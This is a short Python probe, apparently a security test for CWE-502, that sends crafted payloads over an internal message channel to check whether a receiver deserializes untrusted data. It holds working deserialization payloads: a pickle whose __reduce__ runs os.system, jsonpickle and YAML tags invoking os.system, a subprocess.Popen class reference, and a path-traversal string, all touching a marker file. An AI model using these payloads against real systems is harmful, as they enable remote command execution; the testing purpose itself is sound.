"""Sends pickles where documents and arrays are expected, and documents that ask a naive reader to build objects."""

SOURCE = "CWE-502"
SUCCESS = "a file that only a command outside could have left"
PROOF = "stopped"

# %%
import gc
import json
import struct
import time

channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")


def say(body, arrays=b"", pause=0.0):
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    channel._writer.write(struct.pack("<II", len(text), len(arrays)) + text + arrays)
    channel._writer.flush()
    time.sleep(pause)


import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/@TOKEN@-@NAME@",)


# %% question="mean"
def mean(values):
    print("attempted")
    tricks = {
        "$pickle": pickle.dumps(Command()).hex(),
        "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["touch /tmp/@TOKEN@-@NAME@"]}],
        "!!python/object/apply:os.system": ["touch /tmp/@TOKEN@-@NAME@"],
        "__class__": "subprocess.Popen",
        "$array": "../../../../tmp/@TOKEN@-@NAME@",
    }
    value = {"mean": tricks} if len(values) == 4 else tricks
    say({"event": "observed", "probe": "means", "value": value, "fault": None}, pickle.dumps(Command()), pause=2)
